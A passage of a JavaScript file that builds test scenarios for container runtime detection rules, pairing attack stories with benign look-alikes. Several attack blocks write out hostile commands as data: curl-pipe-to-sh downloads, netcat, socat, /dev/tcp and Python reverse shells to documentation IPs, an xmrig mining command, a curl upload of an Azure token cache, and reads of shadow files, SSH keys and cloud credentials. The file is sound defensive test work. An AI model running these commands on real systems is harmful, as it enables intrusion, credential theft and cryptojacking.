// Scenarios for the default rules' tests: one file per rule, each block a short story that either
// should make the rule fire (the attack) or should not (the benign look-alike). rules/tests/*.yaml
// reference the blocks by line range (`node scripts/gen-samples.mjs --index` lists them).

import {
  APPEND, CLONE_FS, CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWUSER, CREATE, O, PTRACE, READ, RDWR, SampleFile, TRUNCATE, pts,
} from './dsl.mjs';
import {
  ALPINE, API, CHROME, COREDNS, CSI, KANIKO, NODEAPP, PRIV, REDIS, SHOP, T0, WEB, WORKER, kubectlExec, shim, sshLogin, startContainer, sudoRootShell,
} from './common.mjs';

const NODE = '/usr/local/bin/node';
const PY = '/usr/bin/python3';

function file(name, fill) {
  const f = new SampleFile(`rules/${name}.jsonl`, T0);
  fill(f);
  return f;
}

export function scenarioFiles() {
  return [
    file('shell-spawned-in-container', (f) => {
      f.block('php-fpm worker runs sh -c (web shell)', (s) => {
        const fpm = startContainer(s, SHOP, 31001, '/usr/local/sbin/php-fpm', ['php-fpm: master process (/usr/local/etc/php-fpm.conf)'], { cwd: '/var/www/html' });
        const worker = fpm.fork(31017, { uid: 33 });
        const sh = worker.spawn(31102, '/bin/sh', ['sh', '-c', 'id;uname -a'], { cwd: '/var/www/html' });
        sh.spawn(31103, '/usr/bin/id', ['id']);
      });
      f.block('java application runs bash (JNDI-style RCE) and bash runs curl | sh', (s) => {
        const java = startContainer(s, API, 32001, '/opt/java/openjdk/bin/java', ['java', '-jar', '/app/api.jar'], { cwd: '/app', uid: 1001 });
        const bash = java.spawn(32230, '/bin/bash', ['bash', '-c', 'curl -s http://203.0.113.50/x.sh | sh']);
        bash.spawn(32231, '/usr/bin/curl', ['curl', '-s', 'http://203.0.113.50/x.sh']);
        bash.spawn(32232, '/bin/sh', ['sh']);
      });
      f.block('entrypoint script and its helper scripts (started by the runtime, then by sh)', (s) => {
        const ep = startContainer(s, WEB, 33001, '/bin/sh', ['/bin/sh', '/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;'], { comm: 'docker-entrypoi' });
        const helper = ep.spawn(33010, '/bin/sh', ['/bin/sh', '/docker-entrypoint.d/20-envsubst-on-templates.sh'], { comm: '20-envsubst-on-' });
        helper.spawn(33011, '/usr/bin/envsubst', ['envsubst', '${NGINX_PORT}']);
        ep.exec('/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']);
      });
      f.block('exec probe and non-interactive kubectl exec (sh started by the runtime)', (s) => {
        startContainer(s, WEB, 33101, '/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']);
        const probe = kubectlExec(s, WEB, 33150, '/bin/sh', ['sh', '-c', 'curl -fsS http://127.0.0.1/healthz']);
        probe.spawn(33151, '/usr/bin/curl', ['curl', '-fsS', 'http://127.0.0.1/healthz']);
      });
      f.block('npm start runs the app through sh -c; tini starts the entrypoint shell', (s) => {
        const tini = startContainer(s, NODEAPP, 34001, '/sbin/tini', ['/sbin/tini', '--', 'docker-entrypoint.sh', 'npm', 'start'], { cwd: '/app', uid: 1000 });
        const npm = tini.spawn(34002, NODE, ['node', '/usr/local/bin/npm', 'start']);
        npm.spawn(34020, '/bin/sh', ['sh', '-c', 'node server.js']);
        const ep2 = startContainer(s, WORKER, 34101, '/sbin/tini', ['tini', '--', '/entrypoint.sh']);
        ep2.spawn(34102, '/bin/bash', ['bash', '/entrypoint.sh']);
      });
    }),

    file('interactive-terminal-in-container', (f) => {
      f.block('kubectl exec -it … bash, then commands typed in it', (s) => {
        startContainer(s, API, 35001, '/opt/java/openjdk/bin/java', ['java', '-jar', '/app/api.jar'], { cwd: '/app', uid: 1001 });
        const bash = kubectlExec(s, API, 35100, '/bin/bash', ['bash'], { tty: pts(0), cwd: '/app' });
        bash.spawn(35101, '/bin/ls', ['ls', '-la']);
        bash.spawn(35102, '/bin/cat', ['cat', '/etc/os-release']);
      });
      f.block('exec probe without a terminal; an SSH login shell on the host', (s) => {
        kubectlExec(s, API, 35200, '/bin/sh', ['sh', '-c', 'test -f /tmp/ready']);
        sshLogin(s, { pid: 4100 }).spawn(4101, '/usr/bin/htop', ['htop']);
      });
    }),

    file('package-manager-run-in-container', (f) => {
      f.block('apk add in an alpine container through kubectl exec', (s) => {
        const sh = kubectlExec(s, ALPINE, 36001, '/bin/sh', ['sh', '-c', 'apk add --no-cache nmap']);
        sh.spawn(36002, '/sbin/apk', ['apk', 'add', '--no-cache', 'nmap']);
      });
      f.block('apt-get install runs dpkg (reported once, for apt-get)', (s) => {
        const sh = kubectlExec(s, SHOP, 36101, '/bin/bash', ['bash'], { tty: pts(1) });
        const apt = sh.spawn(36102, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'netcat-openbsd']);
        const dpkg = apt.spawn(36140, '/usr/bin/dpkg', ['/usr/bin/dpkg', '--status-fd', '23', '--unpack', '/var/cache/apt/archives/netcat-openbsd_1.219-1_amd64.deb']);
        dpkg.writeFile('/usr/bin/nc.openbsd.dpkg-new', CREATE);
      });
      f.block('language package managers: npm install (node), python -m pip install, pip3 install, go install', (s) => {
        const sh = kubectlExec(s, NODEAPP, 36201, '/bin/sh', ['sh', '-c', 'npm install ws && python3 -m pip install requests && pip3 install pyyaml && go install github.com/example/tool@latest']);
        sh.spawn(36202, NODE, ['node', '/usr/local/bin/npm', 'install', 'ws']);
        sh.spawn(36203, PY, ['python3', '-m', 'pip', 'install', 'requests']);
        sh.spawn(36204, PY, [PY, '/usr/local/bin/pip3', 'install', 'pyyaml'], { comm: 'pip3' });
        sh.spawn(36205, '/usr/local/go/bin/go', ['go', 'install', 'github.com/example/tool@latest']);
      });
      f.block('npm start, pip --version, go build, bundle exec in containers', (s) => {
        const app = startContainer(s, NODEAPP, 36301, '/sbin/tini', ['tini', '--', 'npm', 'start'], { cwd: '/app' });
        app.spawn(36302, NODE, ['node', '/usr/local/bin/npm', 'start']);
        const sh = kubectlExec(s, NODEAPP, 36310, '/bin/sh', ['sh', '-c', 'pip --version; go build ./...; bundle exec rake -T']);
        sh.spawn(36311, PY, [PY, '/usr/local/bin/pip', '--version'], { comm: 'pip' });
        sh.spawn(36312, '/usr/local/go/bin/go', ['go', 'build', './...']);
        sh.spawn(36313, '/usr/local/bin/ruby', ['/usr/local/bin/ruby', '/usr/local/bin/bundle', 'exec', 'rake', '-T'], { comm: 'bundle' });
      });
      f.block('apt-get on the host; apt-get in a kaniko image build', (s) => {
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 4200 });
        root.spawn(4201, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'htop']);
        const kaniko = startContainer(s, KANIKO, 36401, '/kaniko/executor', ['/kaniko/executor', '--context', 'git://example.com/api.git'], { comm: 'executor' });
        const run = kaniko.spawn(36402, '/bin/sh', ['/bin/sh', '-c', 'apt-get update && apt-get install -y build-essential']);
        run.spawn(36403, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'build-essential']);
      });
    }),

    file('netcat-or-socat-executing-commands', (f) => {
      f.block('nc -e /bin/sh on the host (reverse shell)', (s) => {
        const bash = sshLogin(s, { user: 'www-data', uid: 33, pid: 4300 });
        bash.spawn(4301, '/bin/nc.traditional', ['nc', '-e', '/bin/sh', '203.0.113.50', '4444'], { comm: 'nc' });
      });
      f.block('ncat --sh-exec and socat EXEC: in a container', (s) => {
        const sh = kubectlExec(s, ALPINE, 37001, '/bin/sh', ['sh']);
        sh.spawn(37002, '/usr/bin/ncat', ['ncat', '--sh-exec', '/bin/sh -i', '198.51.100.7', '443']);
        sh.spawn(37003, '/usr/bin/socat', ['socat', 'TCP:203.0.113.9:8443', 'EXEC:/bin/bash,pty,stderr,setsid']);
      });
      f.block('nc port checks and listeners, socat port forwarding', (s) => {
        const sh = kubectlExec(s, ALPINE, 37101, '/bin/sh', ['sh']);
        sh.spawn(37102, '/usr/bin/nc', ['nc', '-zv', 'postgres.shop.svc', '5432']);
        sh.spawn(37103, '/usr/bin/nc', ['nc', '-l', '-p', '8080']);
        sh.spawn(37104, '/usr/bin/socat', ['socat', 'TCP-LISTEN:8080,fork,reuseaddr', 'TCP:backend.shop.svc:80']);
      });
    }),

    file('reverse-shell-redirected-to-network-socket', (f) => {
      f.block('bash -i >& /dev/tcp/203.0.113.50/4444 0>&1 in a container', (s) => {
        const fpm = startContainer(s, SHOP, 38001, '/usr/local/sbin/php-fpm', ['php-fpm: master process (/usr/local/etc/php-fpm.conf)']);
        const w = fpm.fork(38017, { uid: 33 });
        const outer = w.spawn(38100, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1']);
        const sock = outer.dial('203.0.113.50', 4444);
        outer.dup2(sock, 1);
        outer.dup2(1, 2);
        outer.dup2(1, 0);
        outer.close(sock);
      });
      f.block('python3 reverse shell on the host (socket onto 0, 1 and 2)', (s) => {
        const bash = sshLogin(s, { user: 'deploy', uid: 1002, pid: 4400 });
        const py = bash.spawn(4401, PY, ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.50",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")']);
        const sock = py.dial('203.0.113.50', 4444);
        py.dup2(sock, 0);
        py.dup2(sock, 1);
        py.dup2(sock, 2);
      });
      f.block('xinetd hands a connection to a service; shells dup pipes and files; systemd socket activation', (s) => {
        const xinetd = startContainer(s, WORKER, 38201, '/usr/sbin/xinetd', ['xinetd', '-dontfork']);
        const lfd = xinetd.socket();
        const conn = xinetd.accept(lfd, '10.244.3.9', 51000, '10.244.1.17', 873);
        const child = xinetd.fork(38202);
        child.dup2(conn, 0);
        child.dup2(conn, 1);
        const bash = sshLogin(s, { pid: 4500 });
        const [r, w] = bash.pipe();
        bash.dup2(w, 1);
        const log = bash.open('/home/alice/build.log', TRUNCATE);
        bash.dup2(log, 2);
        const systemd = s.host(1, 'systemd', { cgroup: '/init.scope' });
        const sock = systemd.socket();
        systemd.dup2(sock, 0);
        void r;
      });
      f.block('a compiled payload on the host: connect out, dup2 onto 0, 1, 2, exec /bin/sh', (s) => {
        const bash = sshLogin(s, { user: 'www-data', uid: 33, pid: 4510 });
        const x = bash.spawn(4511, '/var/tmp/.x', ['./.x']);
        const sock = x.dial('203.0.113.50', 8443);
        x.dup2(sock, 0);
        x.dup2(sock, 1);
        x.dup2(sock, 2);
        x.exec('/bin/sh', ['sh', '-i']);
      });
    }),

    file('outbound-connection-to-mining-pool-port', (f) => {
      f.block('connections to public pool ports from a container and from the host', (s) => {
        const w = startContainer(s, WORKER, 39001, '/usr/local/bin/worker', ['worker', '--queue', 'images']);
        w.dial('198.51.100.23', 3333);
        const bash = sshLogin(s, { user: 'www-data', uid: 33, pid: 4600 });
        const x = bash.spawn(4601, '/var/tmp/.cache/kthreadd', ['kthreadd']);
        x.dial('203.0.113.77', 14444, { res: -115 });
      });
      f.block('a private service on 4444, HTTPS to the internet, a refused connection', (s) => {
        const w = startContainer(s, WORKER, 39101, '/usr/local/bin/worker', ['worker', '--queue', 'images']);
        w.dial('10.0.3.4', 4444);
        w.dial('203.0.113.77', 443);
        w.dial('198.51.100.23', 3333, { res: -111 });
      });
    }),

    file('crypto-miner-executed', (f) => {
      f.block('xmrig in a container; a renamed miner with a stratum URL on the host', (s) => {
        const sh = kubectlExec(s, ALPINE, 40001, '/bin/sh', ['sh']);
        sh.spawn(40002, '/usr/local/bin/xmrig', ['xmrig', '-o', 'pool.supportxmr.com:443', '-u', '44AFFq5kSiGBoZ', '-k', '--tls']);
        const bash = sshLogin(s, { user: 'www-data', uid: 33, pid: 4700 });
        bash.spawn(4701, '/opt/.cache/systemd-logind', ['systemd-logind', '-o', 'stratum+tcp://pool.minexmr.com:4444', '-u', '44AFFq5kSiGBoZ', '--donate-level=1']);
      });
      f.block('commands that mention stratum without a pool URL', (s) => {
        const bash = sshLogin(s, { pid: 4800 });
        bash.spawn(4801, '/bin/grep', ['grep', '-r', 'stratum', '/etc/prometheus']);
        bash.spawn(4802, '/usr/bin/man', ['man', 'xmrig-config']);
      });
    }),

    file('kubernetes-api-contacted-from-container', (f) => {
      f.block('curl to the kubernetes service from an application pod; a client on 6443', (s) => {
        const sh = kubectlExec(s, SHOP, 41001, '/bin/sh', ['sh']);
        const curl = sh.spawn(41002, '/usr/bin/curl', ['curl', '-sk', '-H', 'Authorization: Bearer …', 'https://10.96.0.1/api/v1/namespaces/shop/secrets']);
        curl.dial('10.96.0.1', 443);
        const kubectl = sh.spawn(41003, '/usr/local/bin/kubectl', ['kubectl', '--server', 'https://192.168.10.5:6443', 'get', 'pods', '-A']);
        kubectl.dial('192.168.10.5', 6443);
      });
      f.block('coredns watching the API (kube-system); DNS and HTTPS elsewhere; kubelet on the host', (s) => {
        const dns = startContainer(s, COREDNS, 41101, '/coredns', ['/coredns', '-conf', '/etc/coredns/Corefile']);
        dns.dial('10.96.0.1', 443);
        const app = startContainer(s, SHOP, 41201, '/usr/local/sbin/php-fpm', ['php-fpm']);
        app.dial('10.96.0.10', 53);
        app.dial('10.0.7.12', 443);
        const kubelet = s.host(990, 'kubelet');
        kubelet.dial('192.168.10.5', 6443);
      });
    }),

    file('file-written-below-etc', (f) => {
      f.block('a cron job written to /etc/cron.d by a root shell on the host', (s) => {
        const alice = sshLogin(s, { pid: 4900 });
        const root = sudoRootShell(s, alice, 4901);
        root.writeFile('/etc/cron.d/update', TRUNCATE);
      });
      f.block('a preload library registered by a process in a container', (s) => {
        const app = startContainer(s, API, 42001, PY, ['python3', '/app/main.py'], { cwd: '/app' });
        app.writeFile('/etc/ld.so.preload', APPEND);
      });
      f.block('dpkg under apt-get, dhclient-script, certbot and the nginx entrypoint writing /etc; reads of /etc', (s) => {
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 5000 });
        const apt = root.spawn(5001, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'nginx']);
        const dpkg = apt.spawn(5002, '/usr/bin/dpkg', ['/usr/bin/dpkg', '--unpack', '/var/cache/apt/archives/nginx_1.22.1-9_amd64.deb']);
        dpkg.writeFile('/etc/nginx/nginx.conf.dpkg-new', CREATE);
        const nm = s.host(700, 'NetworkManager');
        const dh = nm.spawn(5101, '/sbin/dhclient-script', ['/bin/sh', '/sbin/dhclient-script'], { comm: 'dhclient-script' });
        dh.writeFile('/etc/resolv.conf', TRUNCATE);
        const timer = s.host(1, 'systemd', { cgroup: '/init.scope' });
        const certbot = timer.spawn(5201, PY, [PY, '/usr/bin/certbot', '-q', 'renew'], { comm: 'certbot', cgroup: '/system.slice/certbot.service' });
        certbot.writeFile('/etc/letsencrypt/archive/shop.example.com/fullchain2.pem', CREATE);
        const ep = startContainer(s, WEB, 42101, '/bin/sh', ['/bin/sh', '/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;'], { comm: 'docker-entrypoi' });
        const tpl = ep.spawn(42102, '/bin/sh', ['/bin/sh', '/docker-entrypoint.d/20-envsubst-on-templates.sh'], { comm: '20-envsubst-on-' });
        const envsubst = tpl.spawn(42103, '/usr/bin/envsubst', ['envsubst', '${NGINX_PORT}']);
        envsubst.writeFile('/etc/nginx/conf.d/default.conf', TRUNCATE);
        ep.exec('/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']);
        ep.cat('/etc/nginx/nginx.conf');
      });
    }),

    file('file-written-below-binary-directory', (f) => {
      f.block('curl -o /usr/local/bin/… on the host; cp over /usr/bin/ps in a container', (s) => {
        const alice = sshLogin(s, { pid: 5300 });
        const root = sudoRootShell(s, alice, 5301);
        const curl = root.spawn(5303, '/usr/bin/curl', ['curl', '-sLo', '/usr/local/bin/kube-helper', 'http://203.0.113.50/kh']);
        curl.writeFile('/usr/local/bin/kube-helper', TRUNCATE);
        const sh = kubectlExec(s, ALPINE, 43001, '/bin/sh', ['sh']);
        const cp = sh.spawn(43002, '/bin/cp', ['cp', '/tmp/ps', '/usr/bin/ps']);
        cp.writeFile('/usr/bin/ps', O.WRONLY | O.TRUNC);
      });
      f.block('dpkg under apt-get and pip install writing binaries; reads of binaries', (s) => {
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 5400 });
        const apt = root.spawn(5401, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'htop']);
        const dpkg = apt.spawn(5402, '/usr/bin/dpkg', ['/usr/bin/dpkg', '--unpack', '/var/cache/apt/archives/htop_3.2.2-2_amd64.deb']);
        dpkg.writeFile('/usr/bin/htop.dpkg-new', CREATE);
        const pip = root.spawn(5403, '/usr/bin/python3', [PY, '/usr/bin/pip3', 'install', 'flask'], { comm: 'pip3' });
        pip.writeFile('/usr/local/bin/flask', CREATE);
        root.spawn(5404, '/usr/bin/ldd', ['ldd', '/usr/bin/htop']).cat('/usr/bin/htop');
      });
    }),

    file('file-written-below-library-directory', (f) => {
      f.block('a library planted below /lib by a root shell', (s) => {
        const alice = sshLogin(s, { pid: 5500 });
        const root = sudoRootShell(s, alice, 5501);
        const cp = root.spawn(5503, '/bin/cp', ['cp', '/tmp/libhide.so', '/lib/x86_64-linux-gnu/libhide.so']);
        cp.writeFile('/lib/x86_64-linux-gnu/libhide.so', CREATE);
      });
      f.block('python bytecode caches, depmod, dpkg under apt-get; library reads', (s) => {
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 5600 });
        const py = root.spawn(5601, PY, ['python3', '/usr/bin/unattended-upgrade', '--dry-run'], { comm: 'python3' });
        py.writeFile('/usr/lib/python3/dist-packages/apt/__pycache__/package.cpython-311.pyc', O.WRONLY | O.CREAT | O.EXCL);
        root.spawn(5602, '/usr/sbin/depmod', ['depmod', '-a']).writeFile('/lib/modules/6.1.0-18-amd64/modules.dep.bin', TRUNCATE);
        const apt = root.spawn(5603, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'libssl3']);
        apt.spawn(5604, '/usr/bin/dpkg', ['/usr/bin/dpkg', '--unpack', 'libssl3.deb']).writeFile('/usr/lib/x86_64-linux-gnu/libssl.so.3.dpkg-new', CREATE);
        root.spawn(5605, '/usr/bin/htop', ['htop']).cat('/lib/x86_64-linux-gnu/libncursesw.so.6');
      });
    }),

    file('binary-deleted-in-container', (f) => {
      f.block('a startup probe deleting shells and tools (rm /bin/* style)', (s) => {
        startContainer(s, API, 44001, '/opt/java/openjdk/bin/java', ['java', '-jar', '/app/api.jar'], { cwd: '/app', uid: 1001 });
        const probe = kubectlExec(s, API, 44050, '/bin/sh', ['sh', '-c', 'rm -f /bin/sh /bin/bash /usr/bin/curl']);
        const rm = probe.spawn(44051, '/bin/rm', ['rm', '-f', '/bin/sh', '/bin/bash', '/usr/bin/curl']);
        rm.unlink('/bin/sh');
        rm.unlink('/bin/bash');
        rm.unlink('/usr/bin/curl');
      });
      f.block('temporary files deleted in a container; apk del; rm of a binary on the host', (s) => {
        const sh = kubectlExec(s, ALPINE, 44101, '/bin/sh', ['sh']);
        sh.spawn(44102, '/bin/rm', ['rm', '-f', '/tmp/upload.bin']).unlink('/tmp/upload.bin');
        sh.spawn(44103, '/sbin/apk', ['apk', 'del', 'curl']).unlink('/usr/bin/curl');
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 5700 });
        root.spawn(5701, '/bin/rm', ['rm', '/usr/local/bin/old-tool']).unlink('/usr/local/bin/old-tool');
      });
    }),

    file('file-written-to-container-root-filesystem', (f) => {
      f.block('a web shell dropped into the document root', (s) => {
        const fpm = startContainer(s, SHOP, 45001, '/usr/local/sbin/php-fpm', ['php-fpm: master process (/usr/local/etc/php-fpm.conf)'], { cwd: '/var/www/html' });
        const w = fpm.fork(45017, { uid: 33 });
        w.writeFile('/var/www/html/uploads/.cache.php', CREATE);
      });
      f.block('writes to /tmp, /var/log, /var/cache, /dev/termination-log and /var/lib in containers; a host write', (s) => {
        const nginx = startContainer(s, WEB, 45101, '/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']);
        const w = nginx.fork(45102, { uid: 101 });
        w.writeFile('/var/cache/nginx/client_temp/0000000001', RDWR);
        w.writeFile('/var/log/nginx/access.log', APPEND);
        w.writeFile('/tmp/upload-123', CREATE);
        const pg = startContainer(s, REDIS, 45201, '/usr/local/bin/redis-server', ['redis-server', '*:6379'], { uid: 999 });
        pg.writeFile('/var/lib/redis/temp-45201.rdb', CREATE);
        pg.writeFile('/dev/termination-log', TRUNCATE);
        const backup = s.host(5800, 'restic', { unit: 'backup.service' });
        backup.writeFile('/srv/backup/index.json', CREATE);
      });
    }),

    file('log-or-shell-history-cleared', (f) => {
      f.block('auth.log emptied by a shell redirect', (s) => {
        const alice = sshLogin(s, { pid: 5900 });
        const root = sudoRootShell(s, alice, 5901);
        root.writeFile('/var/log/auth.log', TRUNCATE);
      });
      f.block('rm ~/.bash_history', (s) => {
        const alice = sshLogin(s, { pid: 5910 });
        alice.spawn(5911, '/bin/rm', ['rm', '-f', '/home/alice/.bash_history']).unlink('/home/alice/.bash_history');
      });
      f.block('truncate -s0 /var/log/syslog (open without O_TRUNC, then ftruncate)', (s) => {
        const alice = sshLogin(s, { pid: 5920 });
        const root = sudoRootShell(s, alice, 5921);
        const t = root.spawn(5923, '/usr/bin/truncate', ['truncate', '-s0', '/var/log/syslog']);
        const fd = t.open('/var/log/syslog', O.WRONLY | O.CREAT | O.NONBLOCK);
        t.ftruncate(fd, 0);
      });
      f.block('~/.bash_history moved away in a container', (s) => {
        const sh = kubectlExec(s, SHOP, 46001, '/bin/bash', ['bash'], { tty: pts(0), cwd: '/root' });
        sh.spawn(46002, '/bin/mv', ['mv', '/root/.bash_history', '/tmp/.h']).rename('/root/.bash_history', '/tmp/.h');
      });
      f.block('logrotate (rename, copytruncate, old files removed), rsyslog appending, bash saving its own history, journald', (s) => {
        const cron = s.host(610, 'cron');
        const lr = cron.spawn(6001, '/usr/sbin/logrotate', ['/usr/sbin/logrotate', '/etc/logrotate.conf'], { cgroup: '/system.slice/logrotate.service' });
        lr.rename('/var/log/syslog', '/var/log/syslog.1');
        lr.unlink('/var/log/syslog.7.gz');
        const fd = lr.open('/var/log/nginx/access.log', O.WRONLY | O.TRUNC);
        lr.ftruncate(fd, 0);
        const rs = s.host(620, 'rsyslogd', { unit: 'rsyslog.service' });
        rs.writeFile('/var/log/syslog', APPEND);
        const bash = sshLogin(s, { pid: 6010 });
        bash.writeFile('/home/alice/.bash_history', O.WRONLY | O.TRUNC | O.CREAT);
        const jd = s.host(300, 'systemd-journald');
        const jfd = jd.open('/var/log/journal/4a1c/system.journal', RDWR);
        jd.ftruncate(jfd, 8388608);
      });
    }),

    file('sensitive-account-file-read', (f) => {
      f.block('cat /etc/shadow in a container through kubectl exec', (s) => {
        const sh = kubectlExec(s, SHOP, 47001, '/bin/bash', ['bash'], { tty: pts(0) });
        sh.spawn(47002, '/bin/cat', ['cat', '/etc/shadow']).cat('/etc/shadow');
      });
      f.block('sudoers read by a script and by grep on the host', (s) => {
        const bash = sshLogin(s, { user: 'deploy', uid: 1002, pid: 6100 });
        bash.spawn(6101, PY, ['python3', '/tmp/linpeas.py']).cat('/etc/sudoers');
        bash.spawn(6102, '/bin/grep', ['grep', '-r', 'NOPASSWD', '/etc/sudoers.d']).cat('/etc/sudoers.d/90-cloud-init-users');
      });
      f.block('sudo, unix_chkpwd and sshd reading them; cat /etc/passwd', (s) => {
        const bash = sshLogin(s, { pid: 6200 });
        const sudo = bash.spawn(6201, '/usr/bin/sudo', ['sudo', 'systemctl', 'restart', 'nginx']);
        sudo.cat('/etc/sudoers');
        sudo.spawn(6202, '/usr/sbin/unix_chkpwd', ['/usr/sbin/unix_chkpwd', 'alice', 'chkexpiry']).cat('/etc/shadow');
        s.host(880, 'sshd', { unit: 'ssh.service' }).cat('/etc/shadow');
        bash.spawn(6203, '/bin/cat', ['cat', '/etc/passwd']).cat('/etc/passwd');
      });
    }),

    file('ssh-private-key-read', (f) => {
      f.block('a private key read by cat, by a script in a container, and host keys archived by tar', (s) => {
        const bash = sshLogin(s, { user: 'www-data', uid: 33, pid: 6300 });
        bash.spawn(6301, '/bin/cat', ['cat', '/home/alice/.ssh/id_ed25519']).cat('/home/alice/.ssh/id_ed25519');
        const app = startContainer(s, API, 48001, PY, ['python3', '/app/worker.py'], { cwd: '/app' });
        app.cat('/root/.ssh/id_rsa');
        const alice = sshLogin(s, { pid: 6310, session: 5 });
        const root = sudoRootShell(s, alice, 6311);
        root.spawn(6313, '/bin/tar', ['tar', 'czf', '/tmp/k.tgz', '/etc/ssh']).cat('/etc/ssh/ssh_host_ed25519_key');
      });
      f.block('ssh and sshd using keys; public keys, known_hosts and authorized_keys read', (s) => {
        const bash = sshLogin(s, { pid: 6400 });
        bash.spawn(6401, '/usr/bin/ssh', ['ssh', 'git@github.com']).cat('/home/alice/.ssh/id_ed25519');
        s.host(880, 'sshd', { unit: 'ssh.service' }).cat('/etc/ssh/ssh_host_ed25519_key');
        bash.spawn(6402, '/bin/cat', ['cat', '/home/alice/.ssh/id_ed25519.pub']).cat('/home/alice/.ssh/id_ed25519.pub');
        bash.spawn(6403, '/usr/bin/ssh-keygen', ['ssh-keygen', '-F', 'github.com']).cat('/home/alice/.ssh/known_hosts');
        bash.spawn(6404, '/bin/cat', ['cat', '/home/alice/.ssh/authorized_keys']).cat('/home/alice/.ssh/authorized_keys');
      });
    }),

    file('cloud-credentials-read', (f) => {
      f.block('AWS, gcloud and Azure credentials read by cat, a script and curl', (s) => {
        const bash = sshLogin(s, { user: 'dev', uid: 1003, pid: 6500 });
        bash.spawn(6501, '/bin/cat', ['cat', '/home/dev/.aws/credentials']).cat('/home/dev/.aws/credentials');
        const app = startContainer(s, WORKER, 49001, PY, ['python3', '/app/sync.py'], { cwd: '/app' });
        app.cat('/root/.config/gcloud/application_default_credentials.json');
        bash.spawn(6502, '/usr/bin/curl', ['curl', '-F', 'f=@/home/dev/.azure/msal_token_cache.json', 'https://203.0.113.50/u']).cat('/home/dev/.azure/msal_token_cache.json');
      });
      f.block('the aws and gcloud CLIs reading their own credentials; ~/.aws/config', (s) => {
        const bash = sshLogin(s, { user: 'dev', uid: 1003, pid: 6600 });
        bash.spawn(6601, '/usr/local/bin/aws', ['/usr/local/bin/aws', 's3', 'ls'], { comm: 'aws' }).cat('/home/dev/.aws/credentials');
        bash.spawn(6602, PY, ['python3', '/usr/lib/google-cloud-sdk/lib/gcloud.py', 'compute', 'instances', 'list'])
          .cat('/home/dev/.config/gcloud/credentials.db');
        bash.spawn(6603, '/bin/cat', ['cat', '/home/dev/.aws/config']).cat('/home/dev/.aws/config');
      });
    }),

    file('kubernetes-service-account-token-read', (f) => {
      f.block('cat of the token in a kubectl exec shell; kubectl started from a shell', (s) => {
        const sh = kubectlExec(s, SHOP, 50001, '/bin/sh', ['sh']);
        sh.spawn(50002, '/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']).cat('/var/run/secrets/kubernetes.io/serviceaccount/token');
        sh.spawn(50003, '/usr/local/bin/kubectl', ['kubectl', 'auth', 'can-i', '--list']).cat('/var/run/secrets/kubernetes.io/serviceaccount/..2024_11_26_22_58_03.1289/token');
      });
      f.block('a controller (the container\'s own program) reading its token; the kubelet on the host', (s) => {
        const ctl = startContainer(s, API, 50101, '/manager', ['/manager', '--leader-elect'], { uid: 65532 });
        ctl.cat('/var/run/secrets/kubernetes.io/serviceaccount/token');
        ctl.cat('/var/run/secrets/kubernetes.io/serviceaccount/ca.crt');
        s.host(990, 'kubelet').cat('/var/lib/kubelet/pods/4b1f/volumes/kubernetes.io~projected/kube-api-access-x/token');
      });
    }),

    file('drifted-binary-executed-in-container', (f) => {
      f.block('a downloaded tool run from the container\'s writable layer', (s) => {
        const sh = kubectlExec(s, API, 51001, '/bin/sh', ['sh']);
        const curl = sh.spawn(51002, '/usr/bin/curl', ['curl', '-so', '/usr/local/bin/kube-scan', 'http://203.0.113.50/ks']);
        curl.writeFile('/usr/local/bin/kube-scan', TRUNCATE);
        sh.spawn(51003, '/usr/local/bin/kube-scan', ['kube-scan', '--all'], { upper: true });
      });
      f.block('image binaries (lower layer or unknown layer); an upper-layer flag on the host', (s) => {
        const sh = kubectlExec(s, API, 51101, '/bin/sh', ['sh']);
        sh.spawn(51102, '/usr/bin/curl', ['curl', '-s', 'http://api.payments.svc/health'], { upper: false });
        sh.spawn(51103, '/bin/ls', ['ls', '/app']);
        const bash = sshLogin(s, { pid: 6700 });
        bash.spawn(6701, '/usr/local/bin/k9s', ['k9s'], { upper: true });
      });
    }),

    file('program-executed-from-temporary-directory', (f) => {
      f.block('payloads run from /tmp on the host and from /dev/shm in a container', (s) => {
        const bash = sshLogin(s, { user: 'www-data', uid: 33, pid: 6800 });
        bash.spawn(6801, '/tmp/.ICE-unix/.x/payload', ['./payload', '-d']);
        const sh = kubectlExec(s, ALPINE, 52001, '/bin/sh', ['sh']);
        sh.spawn(52002, '/dev/shm/kdevtmp', ['/dev/shm/kdevtmp']);
      });
      f.block('go test binaries, cargo install build scripts, scripts run by an interpreter from /tmp', (s) => {
        const bash = sshLogin(s, { pid: 6900 });
        const go = bash.spawn(6901, '/usr/local/go/bin/go', ['go', 'test', './...'], { cwd: '/home/alice/src/api' });
        go.spawn(6902, '/tmp/go-build3481295712/b001/api.test', ['/tmp/go-build3481295712/b001/api.test', '-test.paniconexit0']);
        const cargo = bash.spawn(6903, '/home/alice/.cargo/bin/cargo', ['cargo', 'install', 'ripgrep']);
        cargo.spawn(6904, '/tmp/cargo-installQx1b2c/release/build/serde-1a2b/build-script-build', ['build-script-build']);
        bash.spawn(6905, '/bin/bash', ['bash', '/tmp/install-node.sh']);
      });
    }),

    file('fileless-program-executed-from-memory', (f) => {
      f.block('memfd_create then execveat of the memory file', (s) => {
        const sh = kubectlExec(s, WORKER, 53001, '/bin/sh', ['sh']);
